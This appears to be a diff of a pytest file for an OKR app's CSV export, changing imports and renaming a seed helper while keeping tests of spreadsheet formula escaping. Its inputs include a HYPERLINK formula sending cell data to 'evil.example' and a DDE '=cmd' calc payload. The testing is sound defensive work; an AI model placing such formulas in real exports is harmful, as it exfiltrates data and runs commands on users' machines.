@@ -18,9 +18,9 @@ import pytest
 from fastapi import FastAPI
 
 from api.services.exports import as_text_cell
-from tests.api.alignment_seed import make_unit
-from tests.api.okr_seed import make_cycle, seed_check_in, seed_objective
 from tests.conftest import Actor
+from tests.support.builders import make_cycle, make_unit
+from tests.support.seed import seed_check_in, seed_scored_objective
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -55,7 +55,7 @@ async def seeded(app: FastAPI, admin: Actor) -> list[str]:
     cycle = await make_cycle(admin.client, state="active")
     krs = []
     for title in FORMULAS:
-        okr = await seed_objective(
+        okr = await seed_scored_objective(
             app, cycle_id=cycle["id"], owner_id=admin.id, title=title, key_results=[("100", "0")]
         )
         krs += okr.key_result_ids
@@ -106,7 +106,7 @@ class TestCsv:
     ) -> None:
         await make_unit(admin.client, "Company")
         cycle = await make_cycle(admin.client, state="active")
-        okr = await seed_objective(app, cycle_id=cycle["id"], owner_id=admin.id)
+        okr = await seed_scored_objective(app, cycle_id=cycle["id"], owner_id=admin.id)
         kr = okr.key_result_ids[0]
         for n, note in enumerate(["\tx", "\rx", "-3.5", "=cmd|' /C calc'!A0"]):
             created = await admin.client.post(
